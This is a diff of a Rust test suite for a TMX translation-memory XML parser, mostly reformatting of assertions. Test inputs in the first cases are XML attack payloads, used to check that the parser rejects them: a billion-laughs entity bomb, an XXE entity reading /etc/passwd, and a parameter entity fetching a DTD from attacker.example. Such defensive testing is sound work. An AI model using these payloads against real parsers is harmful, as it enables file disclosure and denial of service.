@@ -7,8 +7,8 @@
 
 use super::{HEADER, codes, doc, fatal, read, tu, utf16};
 use crate::tmx::{
-    CodePoint, ErrorKind, Inline, InlineKind, Invalid, Severity, SrcLang, TmxReader, TmxWriter,
-    Tu, WriteError, check_tu, read_all_bytes, write_all,
+    CodePoint, ErrorKind, Inline, InlineKind, Invalid, Severity, SrcLang, TmxReader, TmxWriter, Tu,
+    WriteError, check_tu, read_all_bytes, write_all,
 };
 
 fn prolog_doc(doctype: &str, body: &str) -> String {
@@ -25,7 +25,10 @@ fn seg_text(tu: &Tu, index: usize) -> String {
 fn case_01_billion_laughs() {
     let doctype = "<!DOCTYPE tmx [\n <!ENTITY lol \"lol\">\n <!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n <!ENTITY lol9 \"&lol2;&lol2;\">\n]>";
     let error = fatal(prolog_doc(doctype, &tu("&lol9;", "x")).as_bytes());
-    assert!(matches!(error.kind, ErrorKind::EntityDeclaration), "{error}");
+    assert!(
+        matches!(error.kind, ErrorKind::EntityDeclaration),
+        "{error}"
+    );
     assert_eq!((error.line, error.column), (3, 2));
     assert_eq!(
         error.to_string(),
@@ -37,10 +40,16 @@ fn case_01_billion_laughs() {
 fn case_02_xxe_file() {
     let doctype = "<!DOCTYPE tmx [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>";
     let error = fatal(prolog_doc(doctype, &tu("&xxe;", "x")).as_bytes());
-    assert!(matches!(error.kind, ErrorKind::EntityDeclaration), "{error}");
+    assert!(
+        matches!(error.kind, ErrorKind::EntityDeclaration),
+        "{error}"
+    );
     // Without the declaration the reference is simply undefined: nothing is ever fetched.
     let error = fatal(doc(&tu("&xxe;", "x")).as_bytes());
-    assert!(matches!(&error.kind, ErrorKind::UndefinedEntity(name) if name == "xxe"), "{error}");
+    assert!(
+        matches!(&error.kind, ErrorKind::UndefinedEntity(name) if name == "xxe"),
+        "{error}"
+    );
 }
 
 #[test]
@@ -48,7 +57,10 @@ fn case_03_external_dtd_http_is_kept_not_fetched() {
     let doctype = "<!DOCTYPE tmx SYSTEM \"http://www.lisa.org/tmx/tmx14.dtd\">";
     let (tmx, problems) = read(prolog_doc(doctype, &tu("a", "b")).as_bytes()).unwrap();
     assert!(problems.is_empty(), "{problems:?}");
-    assert_eq!(tmx.doctype.as_deref(), Some("tmx SYSTEM \"http://www.lisa.org/tmx/tmx14.dtd\""));
+    assert_eq!(
+        tmx.doctype.as_deref(),
+        Some("tmx SYSTEM \"http://www.lisa.org/tmx/tmx14.dtd\"")
+    );
     let public = "<!DOCTYPE tmx PUBLIC \"-//LISA OSCAR:1998//DTD for Translation Memory eXchange//EN\" \"tmx14.dtd\">";
     let (tmx, _) = read(prolog_doc(public, &tu("a", "b")).as_bytes()).unwrap();
     let written = write_all(Vec::new(), &tmx).unwrap();
@@ -59,21 +71,34 @@ fn case_03_external_dtd_http_is_kept_not_fetched() {
 fn case_04_parameter_entities() {
     let doctype = "<!DOCTYPE tmx [<!ENTITY % ext SYSTEM \"http://attacker.example/x.dtd\"> %ext;]>";
     let error = fatal(prolog_doc(doctype, &tu("a", "b")).as_bytes());
-    assert!(matches!(error.kind, ErrorKind::EntityDeclaration), "{error}");
+    assert!(
+        matches!(error.kind, ErrorKind::EntityDeclaration),
+        "{error}"
+    );
     let error = fatal(prolog_doc("<!DOCTYPE tmx [ %ext; ]>", &tu("a", "b")).as_bytes());
-    assert!(matches!(&error.kind, ErrorKind::ParameterEntity(pe) if pe == "%ext;"), "{error}");
+    assert!(
+        matches!(&error.kind, ErrorKind::ParameterEntity(pe) if pe == "%ext;"),
+        "{error}"
+    );
     // A `%` in a quoted system literal is no reference.
     let (tmx, _) =
-        read(prolog_doc("<!DOCTYPE tmx SYSTEM \"tmx%2014.dtd\">", &tu("a", "b")).as_bytes()).unwrap();
+        read(prolog_doc("<!DOCTYPE tmx SYSTEM \"tmx%2014.dtd\">", &tu("a", "b")).as_bytes())
+            .unwrap();
     assert_eq!(tmx.tus.len(), 1);
 }
 
 #[test]
 fn case_05_raw_control_char() {
     let error = fatal(doc(&tu("ab\u{1}", "x")).as_bytes());
-    assert!(matches!(error.kind, ErrorKind::ForbiddenChar(CodePoint(1))), "{error}");
+    assert!(
+        matches!(error.kind, ErrorKind::ForbiddenChar(CodePoint(1))),
+        "{error}"
+    );
     assert_eq!((error.line, error.column), (5, 31));
-    assert_eq!(error.to_string(), "`test.tmx`:5:31: character U+0001 is not allowed in XML 1.0");
+    assert_eq!(
+        error.to_string(),
+        "`test.tmx`:5:31: character U+0001 is not allowed in XML 1.0"
+    );
 }
 
 #[test]
@@ -89,33 +114,54 @@ fn case_06_charref_control() {
 #[test]
 fn case_07_charref_nul() {
     let error = fatal(doc(&tu("&#0;", "x")).as_bytes());
-    assert!(matches!(error.kind, ErrorKind::ForbiddenCharRef(_, CodePoint(0))), "{error}");
+    assert!(
+        matches!(error.kind, ErrorKind::ForbiddenCharRef(_, CodePoint(0))),
+        "{error}"
+    );
 }
 
 #[test]
 fn case_08_charref_lone_surrogate() {
     let error = fatal(doc(&tu("&#xD800;", "x")).as_bytes());
-    assert!(matches!(&error.kind, ErrorKind::InvalidCharRef(name) if name == "#xD800"), "{error}");
+    assert!(
+        matches!(&error.kind, ErrorKind::InvalidCharRef(name) if name == "#xD800"),
+        "{error}"
+    );
 }
 
 #[test]
 fn case_09_surrogate_pair_as_two_refs() {
     let error = fatal(doc(&tu("&#55356;&#57221;", "x")).as_bytes());
-    assert!(matches!(&error.kind, ErrorKind::InvalidCharRef(name) if name == "#55356"), "{error}");
+    assert!(
+        matches!(&error.kind, ErrorKind::InvalidCharRef(name) if name == "#55356"),
+        "{error}"
+    );
 }
 
 #[test]
 fn case_10_charref_fffe() {
     let error = fatal(doc(&tu("&#xFFFE;", "x")).as_bytes());
-    assert!(matches!(error.kind, ErrorKind::ForbiddenCharRef(_, CodePoint(0xFFFE))), "{error}");
+    assert!(
+        matches!(
+            error.kind,
+            ErrorKind::ForbiddenCharRef(_, CodePoint(0xFFFE))
+        ),
+        "{error}"
+    );
     let error = fatal(doc(&tu("\u{FFFF}", "x")).as_bytes());
-    assert!(matches!(error.kind, ErrorKind::ForbiddenChar(CodePoint(0xFFFF))), "{error}");
+    assert!(
+        matches!(error.kind, ErrorKind::ForbiddenChar(CodePoint(0xFFFF))),
+        "{error}"
+    );
 }
 
 #[test]
 fn case_11_undefined_entity_nbsp() {
     let error = fatal(doc(&tu("a&nbsp;b", "x")).as_bytes());
-    assert!(matches!(&error.kind, ErrorKind::UndefinedEntity(name) if name == "nbsp"), "{error}");
+    assert!(
+        matches!(&error.kind, ErrorKind::UndefinedEntity(name) if name == "nbsp"),
+        "{error}"
+    );
     assert_eq!((error.line, error.column), (5, 30));
 }
 
@@ -130,7 +176,10 @@ fn case_12_dangling_ampersand() {
 fn case_13_mismatched_end_tag() {
     let body = "<tu><tuv xml:lang=\"en\"><seg>text</tuv></tu>";
     let error = fatal(doc(body).as_bytes());
-    assert!(matches!(&error.kind, ErrorKind::Syntax(m) if m.contains("`</seg>`")), "{error}");
+    assert!(
+        matches!(&error.kind, ErrorKind::Syntax(m) if m.contains("`</seg>`")),
+        "{error}"
+    );
     assert_eq!(error.line, 5);
 }
 
@@ -171,7 +220,10 @@ fn case_17_lt_in_attribute() {
 fn case_18_duplicate_attribute() {
     let body = "<tu><tuv xml:lang=\"en\" xml:lang=\"vi\"><seg>x</seg></tuv></tu>";
     let error = fatal(doc(body).as_bytes());
-    assert!(matches!(&error.kind, ErrorKind::DuplicateAttribute(n) if n == "xml:lang"), "{error}");
+    assert!(
+        matches!(&error.kind, ErrorKind::DuplicateAttribute(n) if n == "xml:lang"),
+        "{error}"
+    );
     assert_eq!((error.line, error.column), (5, 24));
 }
 
@@ -196,7 +248,10 @@ fn case_20_cdata_end_in_text() {
 fn case_21_two_roots() {
     let text = doc(&tu("a", "b")) + "<tmx version=\"1.4\"></tmx>\n";
     let error = fatal(text.as_bytes());
-    assert!(matches!(&error.kind, ErrorKind::AfterRoot(what) if what.contains("`<tmx>`")), "{error}");
+    assert!(
+        matches!(&error.kind, ErrorKind::AfterRoot(what) if what.contains("`<tmx>`")),
+        "{error}"
+    );
     assert_eq!((error.line, error.column), (8, 1));
 }
 
@@ -212,7 +267,10 @@ fn case_22_xml11_declaration() {
 fn case_23_tiled_map_is_not_tmx() {
     let map = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<map version=\"1.10\" orientation=\"orthogonal\" width=\"10\"><tileset firstgid=\"1\"/></map>\n";
     let error = fatal(map.as_bytes());
-    assert!(matches!(&error.kind, ErrorKind::NotTmx(root) if root == "map"), "{error}");
+    assert!(
+        matches!(&error.kind, ErrorKind::NotTmx(root) if root == "map"),
+        "{error}"
+    );
     assert_eq!(
         error.to_string(),
         "`test.tmx`:2:1: not a TMX document: the root element is `<map>`"
@@ -226,7 +284,10 @@ fn case_24_invalid_utf8_byte() {
     let at = text.find("cafX").unwrap() + 3;
     bytes[at] = 0xFF;
     let error = fatal(&bytes);
-    assert!(matches!(error.kind, ErrorKind::InvalidUtf8 { byte } if byte == at as u64), "{error}");
+    assert!(
+        matches!(error.kind, ErrorKind::InvalidUtf8 { byte } if byte == at as u64),
+        "{error}"
+    );
     assert_eq!((error.line, error.column), (5, 32));
 }
 
@@ -236,7 +297,14 @@ fn case_25_deep_nesting() {
     let seg = "<hi>".repeat(depth) + "x" + &"</hi>".repeat(depth);
     let error = fatal(doc(&tu(&seg, "x")).as_bytes());
     assert!(
-        matches!(error.kind, ErrorKind::Limit { limit: "max_depth", max: 128, .. }),
+        matches!(
+            error.kind,
+            ErrorKind::Limit {
+                limit: "max_depth",
+                max: 128,
+                ..
+            }
+        ),
         "{error}"
     );
     assert_eq!(error.line, 5);
@@ -247,14 +315,26 @@ fn case_26_huge_attribute() {
     let value = "a".repeat(20 << 20);
     let body = format!("<tu creationid=\"{value}\"><tuv xml:lang=\"en\"><seg>x</seg></tuv></tu>");
     let error = fatal(doc(&body).as_bytes());
-    assert!(matches!(error.kind, ErrorKind::Limit { limit: "max_attr_len", .. }), "{error}");
+    assert!(
+        matches!(
+            error.kind,
+            ErrorKind::Limit {
+                limit: "max_attr_len",
+                ..
+            }
+        ),
+        "{error}"
+    );
     assert_eq!((error.line, error.column), (5, 17));
     assert!(error.to_string().contains("`max_attr_len`"));
 }
 
 #[test]
 fn case_27_unclosed_root_at_eof() {
-    let text = format!("<?xml version=\"1.0\"?>\n<tmx version=\"1.4\">\n{HEADER}\n<body>\n{}\n", tu("a", "b"));
+    let text = format!(
+        "<?xml version=\"1.0\"?>\n<tmx version=\"1.4\">\n{HEADER}\n<body>\n{}\n",
+        tu("a", "b")
+    );
     let error = fatal(text.as_bytes());
     assert!(
         matches!(&error.kind, ErrorKind::UnclosedAtEof(list) if list == "`<body>`, `<tmx>`"),
@@ -271,7 +351,10 @@ fn case_27_unclosed_root_at_eof() {
 fn case_28_text_after_root() {
     let text = doc(&tu("a", "b")) + "garbage";
     let error = fatal(text.as_bytes());
-    assert!(matches!(&error.kind, ErrorKind::AfterRoot(what) if what == "text"), "{error}");
+    assert!(
+        matches!(&error.kind, ErrorKind::AfterRoot(what) if what == "text"),
+        "{error}"
+    );
     // Comments and whitespace after the root are fine.
     let text = doc(&tu("a", "b")) + "<!-- end -->\n\n";
     assert!(read(text.as_bytes()).is_ok());
@@ -299,7 +382,11 @@ fn case_31_charref_cr_is_kept_and_written_back() {
     let (tmx, _) = read(doc(&tu("a&#13;&#10;b", "x")).as_bytes()).unwrap();
     assert_eq!(seg_text(&tmx.tus[0], 0), "a\r\nb");
     let written = write_all(Vec::new(), &tmx).unwrap();
-    assert!(String::from_utf8(written.clone()).unwrap().contains("<seg>a&#13;\nb</seg>"));
+    assert!(
+        String::from_utf8(written.clone())
+            .unwrap()
+            .contains("<seg>a&#13;\nb</seg>")
+    );
     let (again, _) = read(&written).unwrap();
     assert_eq!(seg_text(&again.tus[0], 0), "a\r\nb");
 }
@@ -320,7 +407,10 @@ fn case_33_bidi_controls_are_kept() {
 fn case_34_utf16le_lone_surrogate() {
     let text = doc(&tu("ab", "x"));
     let mut bytes = utf16(&text, true, false);
-    let unit = 2 + 2 * text.encode_utf16().take(text.find("ab").unwrap() + 1).count();
+    let unit = 2 + 2 * text
+        .encode_utf16()
+        .take(text.find("ab").unwrap() + 1)
+        .count();
     bytes[unit..unit + 2].copy_from_slice(&0xDC00u16.to_le_bytes());
     let error = fatal(&bytes);
     assert!(
@@ -362,7 +452,15 @@ fn case_37_utf16_odd_length() {
     let mut bytes = utf16(&doc(&tu("a", "b")), true, false);
     bytes.push(b'\n');
     let error = fatal(&bytes);
-    assert!(matches!(error.kind, ErrorKind::TruncatedData { encoding: "UTF-16LE" }), "{error}");
+    assert!(
+        matches!(
+            error.kind,
+            ErrorKind::TruncatedData {
+                encoding: "UTF-16LE"
+            }
+        ),
+        "{error}"
+    );
 }
 
 #[test]
@@ -373,9 +471,15 @@ fn case_38_latin1_bytes_declared_utf8() {
     bytes.push(0xE9);
     bytes.extend_from_slice(&text.as_bytes()[at + 2..]);
     let error = fatal(&bytes);
-    assert!(matches!(error.kind, ErrorKind::InvalidUtf8 { byte } if byte == at as u64), "{error}");
+    assert!(
+        matches!(error.kind, ErrorKind::InvalidUtf8 { byte } if byte == at as u64),
+        "{error}"
+    );
     assert_eq!((error.line, error.column), (5, 32));
-    assert!(error.to_string().contains("windows-1252"), "the message suggests declaring it");
+    assert!(
+        error.to_string().contains("windows-1252"),
+        "the message suggests declaring it"
+    );
 }
 
 #[test]
@@ -388,7 +492,10 @@ fn case_39_gzip_renamed() {
 #[test]
 fn case_40_raw_nul() {
     let error = fatal(doc(&tu("a\0", "x")).as_bytes());
-    assert!(matches!(error.kind, ErrorKind::ForbiddenChar(CodePoint(0))), "{error}");
+    assert!(
+        matches!(error.kind, ErrorKind::ForbiddenChar(CodePoint(0))),
+        "{error}"
+    );
     assert_eq!((error.line, error.column), (5, 30));
 }
 
@@ -400,7 +507,10 @@ fn case_41_utf32le_bom() {
     }
     let error = fatal(&bytes);
     assert!(matches!(error.kind, ErrorKind::Utf32), "{error}");
-    assert!(matches!(fatal(&[0, 0, 0xFE, 0xFF, 0, 0, 0, 0x3C]).kind, ErrorKind::Utf32));
+    assert!(matches!(
+        fatal(&[0, 0, 0xFE, 0xFF, 0, 0, 0, 0x3C]).kind,
+        ErrorKind::Utf32
+    ));
 }
 
 #[test]
@@ -425,7 +535,9 @@ fn case_42_iso8859_1_declared() {
 
 #[test]
 fn case_43_declared_utf16_but_8bit_bytes() {
-    let text = doc(&tu("a", "b")).replacen("UTF-8", "utf-16", 1).replace('\n', "\r\n");
+    let text = doc(&tu("a", "b"))
+        .replacen("UTF-8", "utf-16", 1)
+        .replace('\n', "\r\n");
     let (tmx, problems) = read(text.as_bytes()).unwrap();
     assert_eq!(tmx.tus.len(), 1);
     assert_eq!(codes(&problems), ["encoding-mismatch"]);
@@ -437,7 +549,11 @@ fn case_44_header_missing_required_attributes() {
     let (tmx, problems) = read(text.as_bytes()).unwrap();
     assert_eq!(tmx.tus.len(), 1);
     assert_eq!(codes(&problems), ["missing-header-attr"]);
-    assert!(problems[0].message.contains("`creationtool`, `creationtoolversion`, `segtype`, `o-tmf`, `datatype`"));
+    assert!(
+        problems[0]
+            .message
+            .contains("`creationtool`, `creationtoolversion`, `segtype`, `o-tmf`, `datatype`")
+    );
 }
 
 #[test]
@@ -451,7 +567,9 @@ fn case_45_srclang_all_and_prop_without_type() {
     let tu = &tmx.tus[0];
     assert_eq!(tu.srclang(&tmx.header), Some(SrcLang::All));
     assert!(tu.source_tuv(&tmx.header).is_none());
-    let crate::tmx::Meta::Prop(prop) = &tu.meta[0] else { panic!() };
+    let crate::tmx::Meta::Prop(prop) = &tu.meta[0] else {
+        panic!()
+    };
     assert_eq!(prop.attr("name"), Some("gettext-context"));
     assert_eq!(prop.kind(), None);
 }
@@ -460,21 +578,33 @@ fn case_45_srclang_all_and_prop_without_type() {
 fn case_46_invalid_level2_is_kept_with_warnings() {
     let seg = "<ept i=\"1\">&lt;/b&gt;</ept>x<bpt i=\"1\">&lt;b&gt;</bpt><bpt i=\"1\">&lt;i&gt;</bpt> <it pos=\"begin\">&lt;u&gt;</it><bpt i=\"2\">{</bpt>";
     let (tmx, problems) = read(doc(&tu(seg, "y")).as_bytes()).unwrap();
-    assert_eq!(codes(&problems), ["ept-without-bpt", "duplicate-i", "unbalanced-bpt"]);
-    assert!(problems.iter().all(|p| p.severity == Severity::Warning && p.tu_index == Some(0)));
+    assert_eq!(
+        codes(&problems),
+        ["ept-without-bpt", "duplicate-i", "unbalanced-bpt"]
+    );
+    assert!(
+        problems
+            .iter()
+            .all(|p| p.severity == Severity::Warning && p.tu_index == Some(0))
+    );
     let content = &tmx.tus[0].tuvs[0].seg.0;
     assert_eq!(content.len(), 7);
-    let Inline::Element(ept) = &content[0] else { panic!() };
+    let Inline::Element(ept) = &content[0] else {
+        panic!()
+    };
     assert_eq!(ept.kind, InlineKind::Ept);
     assert_eq!(ept.content, vec![Inline::Text("</b>".into())]);
 }
 
 #[test]
 fn case_47_empty_bpt_and_duplicate_x() {
-    let seg = "<bpt i=\"1\" type=\"10001\" x=\"2\"/>a<ept i=\"1\"/><bpt i=\"2\" x=\"2\"/>b<ept i=\"2\"/>";
+    let seg =
+        "<bpt i=\"1\" type=\"10001\" x=\"2\"/>a<ept i=\"1\"/><bpt i=\"2\" x=\"2\"/>b<ept i=\"2\"/>";
     let (tmx, problems) = read(doc(&tu(seg, "y")).as_bytes()).unwrap();
     assert_eq!(codes(&problems), ["duplicate-x"]);
-    let Inline::Element(bpt) = &tmx.tus[0].tuvs[0].seg.0[0] else { panic!() };
+    let Inline::Element(bpt) = &tmx.tus[0].tuvs[0].seg.0[0] else {
+        panic!()
+    };
     assert!(bpt.content.is_empty());
     assert_eq!(bpt.attr("type"), Some("10001"));
 }
@@ -493,14 +623,21 @@ fn case_48_ctime_date_is_kept() {
 
 #[test]
 fn case_49_lang_and_xml_lang_mixed_in_tmx_11() {
-    let body = "<tu><tuv lang=\"en\"><seg>a</seg></tuv><tuv xml:lang=\"be\"><seg>b</seg></tuv></tu>";
+    let body =
+        "<tu><tuv lang=\"en\"><seg>a</seg></tuv><tuv xml:lang=\"be\"><seg>b</seg></tuv></tu>";
     let text = doc(body).replace("version=\"1.4\"", "version=\"1.1\"");
     let (tmx, problems) = read(text.as_bytes()).unwrap();
     assert!(problems.is_empty(), "{problems:?}");
     assert_eq!(tmx.version, "1.1");
     let tuvs = &tmx.tus[0].tuvs;
-    assert_eq!((tuvs[0].lang_raw(), tuvs[1].lang_raw()), (Some("en"), Some("be")));
-    assert!(tuvs[0].attr("xml:lang").is_none(), "the original form is remembered");
+    assert_eq!(
+        (tuvs[0].lang_raw(), tuvs[1].lang_raw()),
+        (Some("en"), Some("be"))
+    );
+    assert!(
+        tuvs[0].attr("xml:lang").is_none(),
+        "the original form is remembered"
+    );
 }
 
 #[test]
@@ -517,19 +654,31 @@ fn case_50_two_tuvs_of_one_language() {
 
 #[test]
 fn case_51_conflict_markers() {
-    let body = format!("{}\n<<<<<<< HEAD\n{}\n=======\n{}\n>>>>>>> theirs", tu("a", "b"), tu("c", "d"), tu("c", "e"));
+    let body = format!(
+        "{}\n<<<<<<< HEAD\n{}\n=======\n{}\n>>>>>>> theirs",
+        tu("a", "b"),
+        tu("c", "d"),
+        tu("c", "e")
+    );
     let error = fatal(doc(&body).as_bytes());
     assert_eq!(error.line, 6, "{error}");
 }
 
 #[test]
 fn case_54_writer_refuses_control_characters_and_names_the_tus() {
-    let (tmx, _) = read(doc(&[tu("good", "tốt"), tu("bad", "x"), tu("also", "y")].join("\n")).as_bytes()).unwrap();
+    let (tmx, _) =
+        read(doc(&[tu("good", "tốt"), tu("bad", "x"), tu("also", "y")].join("\n")).as_bytes())
+            .unwrap();
     let mut tus = tmx.tus.clone();
     tus[1].set_attr("tuid", "t-2");
     tus[1].tuvs[1].seg = crate::tmx::Seg::text("x\u{1}y");
     tus[2].set_prop("x-note", "z\u{FFFF}");
-    let offending: Vec<usize> = tus.iter().enumerate().filter(|(_, tu)| check_tu(tu).is_err()).map(|(i, _)| i).collect();
+    let offending: Vec<usize> = tus
+        .iter()
+        .enumerate()
+        .filter(|(_, tu)| check_tu(tu).is_err())
+        .map(|(i, _)| i)
+        .collect();
     assert_eq!(offending, [1, 2]);
     assert_eq!(
         check_tu(&tus[1]).unwrap_err().to_string(),
@@ -539,13 +688,20 @@ fn case_54_writer_refuses_control_characters_and_names_the_tus() {
     let mut writer = TmxWriter::new(Vec::new(), "1.4", &tmx.header).unwrap();
     writer.write_tu(&tus[0]).unwrap();
     let error = writer.write_tu(&tus[1]).unwrap_err();
-    assert!(matches!(&error, WriteError::InvalidTu { index: 1, tuid: Some(t), reason: Invalid::ForbiddenChar { ch: CodePoint(1), .. } } if t == "t-2"));
+    assert!(
+        matches!(&error, WriteError::InvalidTu { index: 1, tuid: Some(t), reason: Invalid::ForbiddenChar { ch: CodePoint(1), .. } } if t == "t-2")
+    );
     assert_eq!(
         error.to_string(),
         "cannot write tu #2 (tuid `t-2`): character U+0001 in `<seg>` of `<tuv>` `vi` is not allowed in XML 1.0"
     );
     let error = writer.write_tu(&tus[2]).unwrap_err();
-    assert!(error.to_string().starts_with("cannot write tu #3: character U+FFFF in `<prop type=\"x-note\">` of the TU"), "{error}");
+    assert!(
+        error.to_string().starts_with(
+            "cannot write tu #3: character U+FFFF in `<prop type=\"x-note\">` of the TU"
+        ),
+        "{error}"
+    );
     // Nothing of the refused TUs was written; the output is well-formed.
     let bytes = writer.finish().unwrap();
     let (back, problems) = read_all_bytes("out.tmx", &bytes).unwrap();
